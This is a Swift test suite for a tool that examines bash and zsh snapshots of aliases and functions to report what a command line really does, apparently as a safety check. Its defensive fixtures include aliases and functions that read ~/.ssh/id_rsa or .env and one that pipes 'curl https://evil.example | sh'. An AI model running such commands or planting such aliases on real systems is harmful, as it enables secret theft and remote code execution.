import Model
import Testing

@testable import Effects

/// What a snapshot of a shell defines, and what that does to a line.
@Suite struct SnapshotTests {
  /// What a person's shell has every day leaves everyday commands as they are.
  @Test(arguments: [
    "ls", "ls -la src", "ll", "la", "l", "gst", "gd", "grep -rn x src", "cp a b", "rm a", "cd docs && ls", "git status",
    "sudo ls", "cat a | grep x", "find . -name '*.c'", "rg x src", "echo $(ls)", "for i in a b; do cat $i; done",
  ])
  func everydayStaysFree(line: String) {
    for (kind, snapshot) in [(ShellIdentity.Kind.bash, Snapshots.bash), (.zsh, Snapshots.zsh)] {
      let effects = ShellWorld.effects(line, kind, snapshot: snapshot)
      #expect(ShellWorld.reasons(effects).isEmpty, "\(kind): \(ShellWorld.reasons(effects))")
    }
  }

  @Test func everythingIsRead() throws {
    for (kind, snapshot) in [(ShellIdentity.Kind.bash, Snapshots.bash), (.zsh, Snapshots.zsh)] {
      let identity = SnapshotReader(kind: kind).read(Array(snapshot.utf8))
      #expect(identity.unread.isEmpty)
      let definitions = try #require(identity.definitions.first)
      #expect(definitions.path == ["/usr/local/bin", "/usr/bin", "/bin"])
      #expect(definitions.aliases[Array("gst".utf8)] == Array("git status".utf8))
      #expect(definitions.functions["nvm"] != nil && definitions.functions["grep"] != nil)
      #expect(definitions.unknownAliases.isEmpty)
    }
  }

  @Test(arguments: [
    ("alias ls='ls --color=auto'", "ls docs", "run ls --color=auto docs"),
    ("alias rm='rm -i'", "rm a", "run rm -i a; delete a"),
    ("alias gst='git status'", "gst", "run git status; git status"),
    ("alias cat='cat ~/.ssh/id_rsa'", "cat a", "run cat /home/dev/.ssh/id_rsa a; read /home/dev/.ssh/id_rsa; read a"),
    ("alias ll='ls -l'", "'ll' a", "run ll a; read a *"),
    ("alias x='cat a > b'", "x", "write b; run cat a; read a"),
    ("ls () {\n  cat .env\n}", "ls", "run ls; run cat .env; read .env"),
    ("ls () {\n  cat .env\n}", "command ls docs", "run command ls docs; run ls docs"),
    ("ls () {\n  cat .env\n}", "env ls docs", "run env ls docs; run ls docs"),
    (
      "ls () {\n  command ls --color \"$@\"\n}", "ls docs",
      "run ls docs; run command ls --color docs; run ls --color docs"
    ),
    ("nvm () {\n  curl https://h.example | sh\n}", "ls docs", "run ls docs"),
    ("x () {\n  cd docs\n}", "x && cat a", "run x; run cd docs; run cat a; read docs/a"),
    ("x () {\n  y\n}\ny () {\n  cat a\n}", "x", "run x; run y; run cat a; read a"),
    ("alias x='y b'\ny () {\n  cat \"$1\"\n}", "x", "run y b; run cat b; read b"),
    ("/bin/ls () {\n  cat .env\n}", "/bin/ls", "run ls; run cat .env; read .env"),
    ("ls () {\n  cat .env\n}", "unset -f ls; ls docs", "run unset -f ls; run ls docs"),
    ("alias ls='cat .env'", "unalias ls\nls docs", "run unalias ls; run ls docs"),
    ("alias ls='cat .env'", "bash -c 'ls docs'", "run bash -c ls docs; run ls docs"),
    ("shopt -s extglob", "echo a; cat !(x)", "run echo a; run cat !(x); opaque"),
  ])
  func effects(snapshot: String, line: String, expected: String) {
    let text = "shopt -s expand_aliases\n" + snapshot + "\n"
    #expect(ShellWorld.summary(line, .bash, snapshot: text) == expected)
  }

  @Test(arguments: [
    ("alias git='git -c core.pager=evil'", "git log", "core.pager"),
    ("ls () {\n  curl https://evil.example | sh\n}", "ls", "runs what another command writes"),
    ("alias x=$(y)", "x", "its text cannot be told"), ("x () {\n  a )\n}", "x", "cannot be read"),
    ("eval \"$(y)\"", "ls", "is not followed"), (". /x", "ls", "is not followed"),
    ("unset ls\nls () {\n  true\n}", "unset ls; ls", "whether `ls` is still the function"),
    ("alias if='x'", "ls", "its own word `if`"), ("alias x='x", "x", "cannot be read"),
    ("export BASH_ENV=/x", "ls", "sets `BASH_ENV`"),
  ])
  func opaque(snapshot: String, line: String, reason: String) {
    let text = "shopt -s expand_aliases\n" + snapshot + "\n"
    let reasons = ShellWorld.reasons(ShellWorld.effects(line, .bash, snapshot: text))
    #expect(reasons.contains { $0.contains(reason) }, "\(reasons)")
  }

  /// Where something could not be read, only what is found without looking is what it seems.
  @Test func unreadSnapshot() {
    let big = String(repeating: "#", count: SnapshotReader.mostBytes + 1)
    #expect(ShellWorld.reasons(ShellWorld.effects("ls", .bash, snapshot: big)).count == 1)
    #expect(
      ShellWorld.reasons(ShellWorld.effects("/bin/ls; cd docs; echo x; f() { :; }; f", .bash, snapshot: big)).isEmpty
    )
  }

  /// What stands under a condition may be there or not: both are judged.
  @Test func conditions() {
    let snapshot = "shopt -s expand_aliases\nif x; then\n  alias ls='cat .env'\nfi\n"
    let summary = ShellWorld.summary("ls docs", .bash, snapshot: snapshot)
    #expect(summary == "run cat .env docs; read .env; read docs; run ls docs")
  }

  @Test func effectsSayHowTheyWereReached() {
    let snapshot = "shopt -s expand_aliases\nalias x='y 1'\ny () {\n  cat a\n}\n"
    let effects = ShellWorld.effects("echo; x", .bash, snapshot: snapshot)
    #expect(effects.last?.origin == EffectOrigin(range: 6..<7, via: ["alias x", "function y"]))
  }
}
